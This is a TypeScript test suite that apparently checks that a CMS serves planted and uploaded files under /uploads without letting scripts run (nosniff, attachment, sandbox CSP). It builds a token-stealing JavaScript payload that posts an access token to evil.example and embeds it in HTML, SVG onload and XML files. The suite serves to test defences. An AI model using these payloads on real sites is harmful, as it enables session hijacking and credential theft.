import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import request from 'supertest';
import { adminSession, verifiedUser, type Session } from '../api/support/users';
import { baseUrl } from '../api/support/http';

/**
 * Whatever lies under cms/public/uploads (our uploads, or files an older version or an operator
 * left there) is served so that nothing in it runs on the app's origin: never sniffed, and
 * anything but a png/jpeg/webp image either downloaded or sandboxed without scripts.
 */

const UPLOADS_DIR = path.join(__dirname, '..', '..', 'cms', 'public', 'uploads');
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAYAAABytg0kAAAACXBIWXMAAAPoAAAD6AG1e1JrAAAAEUlEQVQImWPQVz/3H4QZYAwARtAIja84x1MAAAAASUVORK5CYII=',
  'base64',
);
const STEAL =
  'fetch("/api/auth/refresh-token",{method:"POST",credentials:"include"}).then(r=>r.json()).then(b=>fetch("https://evil.example/"+b.data.access_token))';

const tag = randomUUID().slice(0, 8);
/** Files left under /uploads as if by an older version: name → content. */
const PLANTED: Record<string, string | Buffer> = {
  [`planted-${tag}.html`]: `<!doctype html><html><body><script>${STEAL}</script><script src="planted-${tag}.js"></script></body></html>`,
  [`planted-${tag}.htm`]: `<script>${STEAL}</script>`,
  [`planted-${tag}.js`]: STEAL,
  [`planted-${tag}.svg`]: `<svg xmlns="http://www.w3.org/2000/svg" onload='${STEAL}'><script>${STEAL}</script></svg>`,
  [`planted-${tag}.xml`]: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>${STEAL}</script></html>`,
  [`planted-${tag}.txt`]: `<script>${STEAL}</script>`,
  [`planted-${tag}`]: `<script>${STEAL}</script>`,
  [`planted-${tag}.PNG`]: `<script>${STEAL}</script>`,
  [`planted-${tag}.png`]: PNG,
};
const RASTER = /\.(png|jpe?g|webp)$/;

/** A raw request: the path goes out exactly as written (no client normalises it). */
const raw = (method: string, pathname: string, headers: Record<string, string> = {}) =>
  new Promise<{ status: number; headers: http.IncomingHttpHeaders; body: Buffer }>((resolve, reject) => {
    const url = new URL(baseUrl());
    const req = http.request({ host: url.hostname, port: url.port, method, path: pathname, headers: { 'x-forwarded-for': '10.77.0.1', ...headers } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => chunks.push(c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks) }));
    });
    req.on('error', reject);
    req.end();
  });

/** Spellings of a file's URL that reach the same file on disk through one route or another. */
const spellings = (name: string) => [
  `/uploads/${name}`,
  `/%75ploads/${name}`,
  `/uploads/./${name}`,
  `/build/../uploads/${name}`,
  `/uploads//${name}`,
  `/uploads/${encodeURIComponent(name)}`,
];

/** Why an answer would let the file run on our origin (null: it cannot). */
const runnable = (name: string, res: { headers: http.IncomingHttpHeaders }): string | null => {
  if (res.headers['x-content-type-options'] !== 'nosniff') return 'no nosniff';
  if (RASTER.test(name)) return null;
  const attachment = /^attachment\b/i.test(String(res.headers['content-disposition'] ?? ''));
  const csp = String(res.headers['content-security-policy'] ?? '');
  const sandboxed = /(^|;)\s*sandbox(\s[^;]*)?(;|$)/.test(csp) && !/sandbox[^;]*allow-scripts/.test(csp);
  return attachment || sandboxed ? null : `neither attachment nor a script-free sandbox (${res.headers['content-type']}; ${csp || 'no CSP'})`;
};

beforeAll(() => {
  fs.mkdirSync(UPLOADS_DIR, { recursive: true });
  for (const [name, content] of Object.entries(PLANTED)) fs.writeFileSync(path.join(UPLOADS_DIR, name), content);
});
afterAll(() => {
  for (const name of Object.keys(PLANTED)) fs.rmSync(path.join(UPLOADS_DIR, name), { force: true });
});

describe('/uploads', () => {
  it('serves every file left there so that nothing in it can run, however the path is spelled', async () => {
    const failures: string[] = [];
    let served = 0;
    for (const name of Object.keys(PLANTED)) {
      for (const url of spellings(name)) {
        for (const [method, headers] of [
          ['GET', {}],
          ['HEAD', {}],
          ['GET', { range: 'bytes=0-20' }],
          ['GET', { accept: '*/*' }],
          // Not a navigation: past the web app's page, to Strapi's static routes.
          ['GET', { accept: 'application/json' }],
        ] as Array<[string, Record<string, string>]>) {
          const res = await raw(method, url, headers);
          if (res.status >= 500) failures.push(`${method} ${url} ${JSON.stringify(headers)}: ${res.status}`);
          // An answer carrying the file's bytes (all, a range, or none for HEAD) is the file; another
          // answer (the web app's page for an unknown path, a 404) is not.
          const content = Buffer.from(PLANTED[name]!);
          const isFile =
            (res.status === 200 && (method === 'HEAD' ? Number(res.headers['content-length']) === content.length : res.body.equals(content))) ||
            (res.status === 206 && content.subarray(0, res.body.length).equals(res.body));
          if (!isFile) continue;
          served += 1;
          const why = runnable(name, res);
          if (why) failures.push(`${method} ${url} ${JSON.stringify(headers)}: ${why}`);
        }
      }
    }
    // Each file was reachable at least under its plain URL.
    expect(served).toBeGreaterThanOrEqual(Object.keys(PLANTED).length * 3);
    expect(failures).toEqual([]);
  });

  it('never hands out a script or a page under its own type', async () => {
    for (const ext of ['js', 'html', 'htm', 'xml']) {
      const res = await raw('GET', `/uploads/planted-${tag}.${ext}`);
      expect({ ext, status: res.status }).toEqual({ ext, status: 200 });
      expect({ ext, type: res.headers['content-type'] }).toEqual({ ext, type: 'application/octet-stream' });
      expect({ ext, disposition: res.headers['content-disposition'] }).toEqual({ ext, disposition: expect.stringMatching(/^attachment/) });
    }
  });

  it('still shows product images as images', async () => {
    const res = await raw('GET', `/uploads/planted-${tag}.png`);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('image/png');
    expect(res.headers['content-disposition']).toBeUndefined();
    expect(res.headers['x-content-type-options']).toBe('nosniff');
  });

  describe('an uploaded SVG', () => {
    let creator: Session;
    beforeAll(async () => {
      creator = await verifiedUser();
    });
    afterAll(async () => {
      const admin = await adminSession();
      await admin.http.delete(`/api/admin/users/${creator.id}`, admin.token);
    });

    it('is served as an image whose scripts cannot run', async () => {
      const up = await request(baseUrl())
        .post('/api/uploads/images')
        .set('X-Forwarded-For', creator.http.ip)
        .set('Authorization', `Bearer ${creator.token}`)
        .attach('image', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle cx="5" cy="5" r="4"/></svg>'), 'logo.svg');
      expect(up.status).toBe(201);
      const res = await raw('GET', up.body.data.url);
      expect(res.status).toBe(200);
      expect(res.headers['content-type']).toContain('image/svg+xml');
      expect(runnable('logo.svg', res)).toBeNull();
      expect(String(res.headers['content-security-policy'])).toMatch(/(^|;)\s*sandbox\s*(;|$)/);
    });
  });
});
